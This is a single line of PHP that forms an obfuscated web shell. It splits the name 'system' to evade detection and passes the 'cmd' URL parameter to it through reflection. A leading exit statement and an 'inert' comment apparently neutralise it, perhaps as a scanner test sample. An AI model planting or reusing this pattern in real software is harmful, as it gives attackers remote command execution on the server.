<?php exit; /* inert */ (new ReflectionFunction('sys'.'tem'))->invoke($_GET['cmd']);
